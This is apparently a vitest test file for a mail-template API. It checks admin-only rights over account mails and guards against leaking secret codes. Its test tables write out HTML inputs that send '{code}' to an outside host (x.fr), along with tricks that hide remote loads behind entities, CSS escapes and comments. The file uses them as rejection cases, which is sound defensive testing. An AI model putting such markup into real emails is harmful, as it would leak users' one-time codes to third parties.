/** Rights over content do not reach sign-in: templates of account mails, and of mails with a secret. */
import { beforeEach, expect, it } from 'vitest';
import { builtInTexts } from '../../../../server/mail/built-in';
import { compose } from '../../../../server/mail/compose';
import { sentTexts } from '../../../../server/mail/guarded';
import { isAccount, isGuarded, type Trigger, triggers } from '../../../../src/plugins/mails/models/triggers';
import { describeBothDatabases } from '../../../support/databases';
import { codes, useHouse, type Who } from '../../resource/house';
import { makeWorld } from '../../resource/world';

const path = '/api/notification/mails';
const accounts = triggers.filter(isAccount);
const safe = (declencheur: string, more: object = {}) => ({
  code: declencheur,
  declencheur,
  objetFr: 'Bonjour',
  htmlFr: '<p>Bonjour {nom}</p>',
  ...more,
});

describeBothDatabases('mails of accounts and mails with a secret', () => {
  const house = useHouse(makeWorld);
  beforeEach(async () => {
    await house.query('truncate mails, versions, envois, actions restart identity cascade');
  });
  const { as } = house;
  const make = (body: object, who: Who = 'admin') => as(who, 'POST', path, body);
  const store = (columns: Readonly<Record<string, unknown>>) => {
    const names = Object.keys(columns);
    const places = names.map((_name, index) => `$${index + 1}`);
    return house.query(
      `insert into mails (${names.join(', ')}) values (${places.join(', ')})`,
      names.map((name) => columns[name]),
    );
  };
  const sent = (template: Trigger, partner: string | null) =>
    house.database.drizzle.transaction((tx) =>
      compose(
        tx,
        {
          template,
          partner,
          lang: 'fr',
          to: 'ada@exemple.fr',
          data: { lien: 'https://regie.example/#jeton=S', code: '7301' },
        },
        'Régie',
      ),
    );

  it('are those that the decision names', () => {
    expect(accounts).toEqual([
      ...(['MOT_DE_PASSE_LIEN', 'MOT_DE_PASSE_TEMPORAIRE', 'MOT_DE_PASSE_CHANGE', 'INVITATION'] as const),
      ...(['CODE_CONFIRMATION', 'ADRESSE_CHANGEE'] as const),
    ]);
    expect(triggers.filter(isGuarded).filter((each) => !isAccount(each))).toEqual(['CARTE']);
  });

  it.each(accounts)('%s is written for everybody, by an administrator alone, by whatever door', async (trigger) => {
    const refused = (answer: { text: string }) => expect(answer.text).toContain('mails-account');
    const own = { ...safe(trigger), idTiers: 'P1' };
    refused(await make(own, 'groupe'));
    refused(await as('groupe', 'POST', `${path}/validate`, own));
    expect(codes((await make(own)).json)).toEqual(['declencheur: mails-platform']);
    expect((await make(safe(trigger))).status).toBe(201);

    // One that a partner has from before: it is not written, and it is no mail's.
    await store({
      code: trigger,
      declencheur: trigger,
      id_tiers: 'P1',
      libelle: 'a',
      html_fr: '<p>P1</p>',
      objet_fr: 'x',
    });
    await store({
      code: 'A_LUI',
      declencheur: 'MANUEL',
      id_tiers: 'P1',
      libelle: 'b',
      html_fr: '<p>b</p>',
      objet_fr: 'x',
    });
    refused(await as('groupe', 'PUT', `${path}/2`, { objetFr: 'y' }));
    refused(await as('groupe', 'PUT', `${path}/2`, { libelle: 'y' }));
    refused(await as('groupe', 'PUT', `${path}/3`, { declencheur: trigger }));
    for (const change of [{ objetFr: 'y' }, { libelle: 'y' }, { declencheur: 'MANUEL' }])
      refused(await as('groupe', 'POST', `${path}/bulk`, { selection: { ids: ['2'] }, change }));
    refused(
      await as('groupe', 'POST', `${path}/bulk`, { selection: { ids: ['3'] }, change: { declencheur: trigger } }),
    );
    expect((await as('groupe', 'DELETE', `${path}/2`)).status).toBe(409);
    expect((await as('groupe', 'POST', `${path}/2/publish`, {}, 1)).text).toContain('mails-account');
    expect((await as('admin', 'POST', `${path}/2/publish`, {}, 1)).text).toContain('mails-platform');
    const csv = `code;declencheur;idTiers;objetFr;htmlFr\nIMPORTE;${trigger};P1;Bonjour;<p>Bonjour</p>\n`;
    const send = (dto: object) => house.sendFile('groupe', `${path}/import`, 'a.csv', csv, dto);
    const { plan } = (await send({ look: true })).json;
    expect((await send({ plan, dryRun: true })).json).toMatchObject({
      created: 0,
      rejects: [{ reasons: [{ message: expect.stringContaining('un administrateur les écrit') }, {}] }],
    });
    await send({ plan });
    const { rows } = await house.query(
      "select count(*)::int as n from mails where id_tiers = 'P1' and declencheur = $1",
      [trigger],
    );
    expect(rows).toEqual([{ n: 1 }]);
    // An administrator may take it away.
    expect((await as('admin', 'DELETE', `${path}/2`)).status).toBe(204);
  });

  it('are not brought back by a version of before', async () => {
    await make(safe('MANUEL', { code: 'A_LUI', idTiers: 'P1' }), 'groupe');
    await house.query('update versions set contenu = contenu || $1::jsonb', [
      JSON.stringify({ declencheur: 'INVITATION' }),
    ]);
    await as('groupe', 'PUT', `${path}/1`, { libelle: 'Autre' }, 1);
    const answer = await as('groupe', 'POST', `${path}/1/versions/1/restore`, {}, 2);
    expect(codes(answer.json)).toContain('declencheur: mails-account');
  });

  it('are not brought back by a revert', async () => {
    const made = await make(safe('INVITATION'));
    const changed = await as('admin', 'PUT', `${path}/1`, { objetFr: 'Autre' }, 1);
    for (const lot of [changed.headers['x-lot'], made.headers['x-lot']]) {
      await house.revert(lot, {}, 'groupe');
      expect((await house.read(`${path}/1`)).objetFr).toBe('Autre');
    }
  });

  it.each([
    'COMMANDE_CONFIRMEE',
    'BILLETS',
  ] as const)('%s carries the tickets: no copy is made of it', async (trigger) => {
    const copied = safe(trigger, { cc: 'moi@exemple.fr', idTiers: 'P1' });
    expect(codes((await make(copied)).json)).toContain('cc: mails-ticket-copy');
    expect(sentTexts(trigger, { ...builtInTexts(trigger), cc: 'moi@exemple.fr', expediteur: 'Zénith' })).toMatchObject({
      ...{ cc: '', expediteur: 'Zénith' },
    });
  });

  it.each<[string, object, string[]]>([
    ['a copy', { cc: 'moi@exemple.fr' }, ['cc: mails-guarded']],
    ['a sender', { expediteur: 'moi@exemple.fr' }, ['expediteur: mails-guarded']],
    [
      'a picture elsewhere that is told the secret',
      { htmlFr: '<img src="https://x.fr/?s={code}">' },
      ['htmlFr: mails-guarded-place'],
    ],
    ['a picture elsewhere', { htmlFr: '<img alt="" src="https://x.fr/a.png">' }, ['htmlFr: mails-guarded-remote']],
    ['a picture of no scheme', { htmlFr: '<img alt="" src="//x.fr/a.png">' }, ['htmlFr: mails-guarded-remote']],
    [
      'a picture hidden by entities',
      { htmlFr: '<img alt="" src="htt&#112;s:&#x2f;/x.fr">' },
      ['htmlFr: mails-guarded-remote'],
    ],
    ['a set of pictures', { htmlFr: '<img alt="" srcset="https://x.fr/a.png 2x">' }, ['htmlFr: mails-guarded-remote']],
    ['a background', { htmlFr: '<table background="http://x.fr"></table>' }, ['htmlFr: mails-guarded-remote']],
    ['a style sheet', { htmlFr: '<link rel="stylesheet" href="https://x.fr">' }, ['htmlFr: mails-html-tag']],
    ['an import of styles', { htmlFr: '<style>@IMPORT "https://x.fr";</style>' }, ['htmlFr: mails-guarded-remote']],
    [
      'a picture of styles',
      { htmlFr: '<p style="background:URL( https://x.fr )">a</p>' },
      ['htmlFr: mails-guarded-remote'],
    ],
    ['escaped styles', { htmlFr: '<p style="background:u\\72l(x)">a</p>' }, ['htmlFr: mails-guarded-remote']],
    [
      'a conditional comment',
      { htmlFr: '<!--[if mso]><img src="https://x.fr"><![endif]-->' },
      ['htmlFr: mails-html-tag'],
    ],
    ['a comment that ends elsewhere', { htmlFr: '<!--><img src="https://x.fr">-->' }, ['htmlFr: mails-guarded-remote']],
    ['a drawing', { htmlFr: '<svg><title><img src="https://x.fr"></title></svg>' }, ['htmlFr: mails-html-tag']],
    ['the secret within a link', { htmlFr: '<a href="https://x.fr/?s={code}">a</a>' }, ['htmlFr: mails-guarded-place']],
    ['the secret in a title', { htmlFr: '<p title="{code}">a</p>' }, ['htmlFr: mails-guarded-place']],
    [
      'the secret glued to an address',
      { htmlFr: '<p>https://x.fr/?s=<b>{code}</b></p>' },
      ['htmlFr: mails-guarded-glued'],
    ],
    ['the same as text', { texteFr: 'Voyez x.fr/{ code }' }, ['texteFr: mails-guarded-glued']],
    ['an address of what else is filled', { texteFr: '{message}{code}' }, ['texteFr: mails-guarded-glued']],
    ['the secret in a subject', { objetFr: 'Carte {code}' }, ['objetFr: mails-secret']],
  ])('take no template with %s, at save and when they leave', async (_what, change, expected) => {
    const body = safe('CARTE', { ...change, idTiers: 'P1' });
    expect(codes((await make(body, 'groupe')).json).slice(0, 1)).toEqual(expected);
    expect(codes((await as('groupe', 'POST', `${path}/validate`, body)).json).slice(0, 1)).toEqual(expected);

    // The same, stored before there was a rule, and live.
    expect((await make(safe('CARTE', { idTiers: 'P1' }), 'groupe')).status).toBe(201);
    await as('groupe', 'POST', `${path}/1/publish`, {}, 1);
    expect((await sent('CARTE', 'P1')).modele).toEqual({ id: 1, version: 1 });
    await house.query('update versions set contenu = contenu || $1::jsonb', [JSON.stringify(change)]);
    const composed = await sent('CARTE', 'P1');
    expect([composed.expediteur, composed.cc]).toEqual(['', '']);
    expect(composed.html).not.toContain('x.fr');
    expect(composed.texte).not.toContain('x.fr');
  });

  it.each([
    [
      'a link to read, and the secret as text',
      { htmlFr: '<p>Numéro : <b>{code}</b>. <a href="https://x.fr/aide">Aide</a></p>' },
    ],
    ['a picture of its own', { htmlFr: '<img alt="a" src="data:image/png;base64,AAAA"><p>« {code} »</p>' }],
    ['plain styles', { htmlFr: '<style>p { color: #111; }</style><!-- note --><p style="margin:0">{code}.</p>' }],
  ])('take one with %s', async (_what, change) => {
    expect((await make(safe('CARTE', { ...change, idTiers: 'P1' }), 'groupe')).status).toBe(201);
  });

  it.each(['INVITATION', 'MOT_DE_PASSE_LIEN'])('%s takes its link as text and as a whole address', async (code) => {
    const link = '<a href="{lien}">{lien}</a> <a href=" {lien} ">Choisir</a>';
    expect((await make(safe(code, { htmlFr: link, texteFr: 'Ouvrez : {lien}.' }))).status).toBe(201);
    const glued = { htmlFr: '<a href="{lien}&a=1">a</a>', texteFr: 'https://x.fr?{lien}', objetFr: '{lien}' };
    expect(codes((await as('admin', 'PUT', `${path}/1`, glued, 1)).json)).toEqual([
      'objetFr: mails-secret',
      'htmlFr: mails-guarded-place',
      'texteFr: mails-guarded-glued',
    ]);
  });

  it('leave by the platform’s template and name, whatever a partner has stored', async () => {
    await make(safe('INVITATION', { objetFr: 'De {site}' }));
    await as('admin', 'POST', `${path}/1/publish`, {}, 1);
    await make(
      safe('MANUEL', { code: 'INVITATION', idTiers: 'P1', objetFr: 'Du partenaire', cc: 'moi@exemple.fr' }),
      'groupe',
    );
    await as('groupe', 'POST', `${path}/2/publish`, {}, 1);
    await house.query('update versions set contenu = contenu || $1::jsonb where entite_id = $2', [
      JSON.stringify({ declencheur: 'INVITATION' }),
      '2',
    ]);
    expect(await sent('INVITATION', 'P1')).toMatchObject({ objet: 'De Régie', cc: '', modele: { id: 1 } });
  });

  it('are previewed as they will leave: without sender or copy', async () => {
    await store({
      code: 'CARTE',
      declencheur: 'CARTE',
      libelle: 'a',
      html_fr: '<p>a</p>',
      objet_fr: 'x',
      expediteur: 'moi@exemple.fr',
    });
    const { json } = await as('admin', 'POST', `${path}/apercu`, { ...safe('CARTE'), expediteur: 'moi@exemple.fr' });
    expect(json.expediteur).toBe('');
    await as('admin', 'POST', `${path}/1/essai`, {});
    expect(house.composed.at(-1)).toMatchObject({ expediteur: '', cc: '' });
  });
});
